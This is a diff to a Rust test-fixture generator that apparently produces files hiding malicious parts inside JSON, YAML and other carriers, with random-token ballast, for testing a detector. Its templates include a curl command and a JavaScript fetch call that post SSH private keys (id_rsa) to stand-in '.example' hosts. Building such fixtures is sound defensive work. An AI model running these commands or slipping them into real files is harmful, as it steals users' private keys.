@@ -256,6 +256,7 @@ pub const SHAPES: &[Shape] = &[
 pub const RANDOM: &[&str] = &["random-bytes", "random-tokens", "random-ascii"];
 
 /// One file: its path, its text, and the lines of the thefts before and after the bad part.
+#[allow(dead_code)] // Each that shares it uses a part.
 pub struct Bad {
     pub name: String,
     pub path: &'static str,
@@ -321,11 +322,88 @@ fn put(out: &mut String, piece: &str, count: usize) {
 
 /// Tokens of all languages, as chance strews them.
 const TOKENS: &[&str] = &[
-    "(", ")", "[", "]", "{", "}", "\"", "'", "`", "$", "${", "$(", "<<E\n", "E\n", "\n", "\n    ", ";", ":", ",", ".",
-    "=", "==", "=>", "+", "-", "|", "||", "&&", "<", ">", "</", "/*", "*/", "//", "#", "\\", "!", "?", "@", "*", "if ",
-    "else ", "for ", "in ", "def ", "class ", "function ", "return ", "import ", "from ", "lambda ", "case ", "esac ",
-    "then ", "fi ", "do ", "done ", "async ", "await ", "yield ", "new ", "f", "x", "curl ", "eval ", "exec", "open",
-    "1", "0x", "'a'", "\"b\"", "f'", "'''", "```", "<!--", "-->", "<script>", "- ", "run: ", "\t", "é", "\u{FFFD}",
+    "(",
+    ")",
+    "[",
+    "]",
+    "{",
+    "}",
+    "\"",
+    "'",
+    "`",
+    "$",
+    "${",
+    "$(",
+    "<<E\n",
+    "E\n",
+    "\n",
+    "\n    ",
+    ";",
+    ":",
+    ",",
+    ".",
+    "=",
+    "==",
+    "=>",
+    "+",
+    "-",
+    "|",
+    "||",
+    "&&",
+    "<",
+    ">",
+    "</",
+    "/*",
+    "*/",
+    "//",
+    "#",
+    "\\",
+    "!",
+    "?",
+    "@",
+    "*",
+    "if ",
+    "else ",
+    "for ",
+    "in ",
+    "def ",
+    "class ",
+    "function ",
+    "return ",
+    "import ",
+    "from ",
+    "lambda ",
+    "case ",
+    "esac ",
+    "then ",
+    "fi ",
+    "do ",
+    "done ",
+    "async ",
+    "await ",
+    "yield ",
+    "new ",
+    "f",
+    "x",
+    "curl ",
+    "eval ",
+    "exec",
+    "open",
+    "1",
+    "0x",
+    "'a'",
+    "\"b\"",
+    "f'",
+    "'''",
+    "```",
+    "<!--",
+    "-->",
+    "<script>",
+    "- ",
+    "run: ",
+    "\t",
+    "é",
+    "\u{FFFD}",
 ];
 
 /// A generator of its own, so that every run makes the same files.
@@ -335,7 +413,8 @@ pub fn next(state: &mut u64) -> u64 {
 }
 
 fn random(name: &str, carrier: &str, bytes: usize) -> String {
-    let mut state = name.bytes().chain(carrier.bytes()).fold(7, |sum: u64, b| sum * 31 + u64::from(b));
+    let mut state =
+        name.bytes().chain(carrier.bytes()).fold(7, |sum: u64, b| (sum % 1_000_003) * 31 + u64::from(b));
     let mut out = String::with_capacity(bytes + 8);
     while out.len() < bytes {
         let number = next(&mut state);
@@ -353,7 +432,9 @@ fn bad(carrier: &str, shape: &str, ballast: &str) -> Bad {
     let path = CARRIERS.iter().find(|(name, _)| *name == carrier).expect("a known carrier").1;
     let shell = |host: &str| format!("curl -d @$HOME/.ssh/id_rsa https://{host}.example/in");
     let web = |host: &str| {
-        format!("fetch('https://{host}.example/in', {{method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa')}});")
+        format!(
+            "fetch('https://{host}.example/in', {{method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa')}});"
+        )
     };
     // What a chain hangs on.
     let head = if ballast.starts_with(['.', '[']) || ballast.starts_with("()") { "a" } else { "" };
@@ -377,7 +458,8 @@ fn bad(carrier: &str, shape: &str, ballast: &str) -> Bad {
         }
         "json" => {
             let (before, after) = (shell("before"), shell("after"));
-            let entry = if ballast.starts_with("\"s") { ballast.to_string() } else { format!("\"x\": {ballast},") };
+            let entry =
+                if ballast.starts_with("\"s") { ballast.to_string() } else { format!("\"x\": {ballast},") };
             format!("{{\"scripts\": {{\"a\": \"{before}\",\n{entry}\n\"z\": \"{after}\"}}}}\n")
         }
         "yaml" => {
